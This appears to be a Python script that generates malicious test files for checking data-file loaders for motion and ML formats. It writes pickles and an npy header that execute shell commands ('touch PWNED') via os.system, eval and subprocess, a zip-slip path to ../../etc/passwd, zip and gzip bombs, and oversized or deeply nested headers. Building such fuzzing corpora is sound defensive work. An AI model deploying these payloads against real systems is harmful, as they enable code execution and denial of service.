"""Writes files that attack readers into a folder: each must end in one clear line.    hostile.py FOLDER"""
import gzip
import io
import json
import pickle
import struct
import sys
import zipfile
import zlib
from pathlib import Path

folder = Path(sys.argv[1])
folder.mkdir(parents=True, exist_ok=True)


def put(name, data):
    (folder / name).write_bytes(data if isinstance(data, bytes) else data.encode())


# Pickles that would run code.
for module, function in (("os", "system"), ("posix", "system"), ("builtins", "eval"), ("builtins", "exec"),
                         ("subprocess", "call"), ("torch.jit", "load"), ("numpy", "load"), ("nt", "system")):
    name = f"{module}_{function}".replace(".", "_")
    call = f"c{module}\n{function}\n(S'touch PWNED'\ntR.".encode()
    put(f"pickle_{name}_0.pkl", call)
    short = b"\x8c" + bytes([len(module)]) + module.encode() + b"\x8c" + bytes([len(function)]) + function.encode()
    put(f"pickle_{name}_4.pkl", b"\x80\x04" + short + b"\x93\x8c\x0btouch PWNED\x85R.")
put("pickle_deep.pkl", b"\x80\x02" + b"]" * 500_000 + b"a" * 499_999 + b".")
put("pickle_deep_tuple.pkl", b"\x80\x02)" + b"\x85" * 500_000 + b".")
laughs = b"\x80\x02]q\x00"
for i in range(1, 60):
    laughs += b"](" + b"h" + bytes([i - 1]) + b"h" + bytes([i - 1]) + b"eq" + bytes([i])
put("pickle_laughs.pkl", laughs + b".")
put("pickle_no_stop.pkl", b"\x80\x04]")
put("pickle_underflow.pkl", b"\x80\x04a.")
put("pickle_memo.pkl", b"\x80\x02]r\xff\xff\xff\x7f.")
put("pickle_long_text.pkl", b"\x80\x04\x8d" + struct.pack("<Q", 1 << 60) + b"x.")
put("pickle_frame.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N.")
put("pickle_nested.pkl", pickle.dumps({"motion_data": pickle.dumps({"a": pickle.dumps([1])}), "terrain_data": b"x"}))


def npy(header, data=b""):
    text = header.encode().ljust(118 - 10, b" ") + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + data


put("npy_huge.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776, 1048576), }"))
put("npy_negative.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (-1, 3), }"))
put("npy_overflow.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (4294967296, 4294967296), }"))
put("npy_code.npy", npy("{'descr': __import__('os').system('touch PWNED'), 'shape': (1,), }"))
put("npy_deep.npy", npy("{'descr': " + "(" * 80))
put("npy_object.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (), }", b"cos\nsystem\n(S'touch PWNED'\ntR."))


def archive(entries, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in entries:
            z.writestr(name, data)
    return out.getvalue()


zeros = bytes(300 << 20)
put("zip_bomb.npz", archive([("poses.npy", npy("{'descr': '|u1', 'fortran_order': False, 'shape': (314572800,), }") + zeros)]))
put("gzip_bomb.pkl.gz", gzip.compress(zeros, 9))
del zeros
inner = b"HIERARCHY\n"
for _ in range(12):
    inner = gzip.compress(inner)
put("gzip_matryoshka.bvh", inner)
put("zip_dotdot.npz", archive([("../../etc/passwd.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", bytes(8)))]))
plain = archive([("a.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", bytes(8)))], zipfile.ZIP_STORED)
put("zip_encrypted.npz", plain[:6] + b"\x01" + plain[7:].replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"))
put("zip_truncated.npz", plain[:-30])
# two directory entries that point at the same local header
at = plain.index(b"PK\x01\x02")
entry, end = plain[at:plain.index(b"PK\x05\x06")], plain[plain.index(b"PK\x05\x06"):]
twice = end[:8] + struct.pack("<HHI", 2, 2, 2 * len(entry)) + end[16:]
put("zip_overlap.npz", plain[:at] + entry + entry.replace(b"a.npy", b"b.npy") + twice)
put("zip_legion.npz", plain[:at] + end[:8] + struct.pack("<HHI", 65535, 65535, 1 << 30) + end[16:])

put("json_deep.json", '{"FrameDuration":0.02,"Frames":' + "[" * 400_000)
put("json_deep_object.json", '{"a":' * 400_000)
put("json_laughs.json", '{"FrameDuration":1e-400,"Frames":[[1e999]]}')
# frames of a millisecond, and one that lasts for ever
pose = [0] * 4 + 4 * [1, 0, 0, 0] + [0] + 2 * [1, 0, 0, 0] + [0] + [1, 0, 0, 0] + [0] + 2 * [1, 0, 0, 0] + [0]
put("json_long.json", json.dumps({"Loop": "none", "Frames": [[dt] + pose[1:] for dt in (0.001, 1e300, 0.001, 0)]}))
put("json_day.json", json.dumps({"Loop": "none", "Frames": [[dt] + pose[1:] for dt in (0.001, 1e5, 0.001, 0)]}))
put("json_ragged.json", json.dumps({"FrameDuration": 0.02, "Frames": [[0] * 61, [0]]}))

put("bvh_deep.bvh", "HIERARCHY\nROOT a\n{\nOFFSET 0 0 0\nCHANNELS 0\n" + "JOINT b\n{\nOFFSET 0 0 0\nCHANNELS 0\n" * 200_000)
put("bvh_channels.bvh", "HIERARCHY\nROOT a\n{\nOFFSET 0 0 0\nCHANNELS 4000000000 Xposition\n}\nMOTION\nFrames: 1\nFrame Time: 1\n0\n")
put("bvh_frames.bvh", "HIERARCHY\nROOT a\n{\nOFFSET 0 0 0\nCHANNELS 3 Xposition Yposition Zposition\nEnd Site\n{\nOFFSET 0 1 0\n}\n}\n"
    "MOTION\nFrames: 99999999999999\nFrame Time: 0.01\n")

block = bytearray(1024)
block[0:2], block[2:4], block[8:10], block[16:18] = b"\x02\x50", b"\xff\xff", b"\xff\xff", b"\x03\x00"
block[512:516] = bytes([1, 80, 1, 84])
put("c3d_points.c3d", bytes(block))
put("csv_wide.csv", "1," * 3_000_000)
put("csv_nan.csv", ",".join(["nan"] * 36) + "\n")
put("h5_magic.h5", b"\x89HDF\r\n\x1a\n" + bytes(600))
put("h5_magic_ff.h5", b"\x89HDF\r\n\x1a\n" + b"\xff" * 600)
put("glb_lengths.glb", b"glTF" + struct.pack("<III", 2, 1 << 31, 1 << 31) + b"JSON")
put("glb_deep.glb", b"glTF" + struct.pack("<III", 2, 20 + 400_000, 400_000) + b"JSON" + b"[" * 400_000)
put("fbx_lengths.fbx", b"Kaydara FBX Binary  \0\x1a\0" + struct.pack("<I", 7400) + b"\xff" * 60)
array = struct.pack("<IIIB", 27 + 13 + 20, 1, 20, 1) + b"a" + b"d" + struct.pack("<III", 1 << 30, 1, 8) + zlib.compress(b"")
put("fbx_array.fbx", b"Kaydara FBX Binary  \0\x1a\0" + struct.pack("<I", 7400) + array)
put("trc_header.trc", "PathFileType\t4\n" + "\t" * 1_000_000)
put("lfs.npz", "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n")
put("empty.pkl", b"")
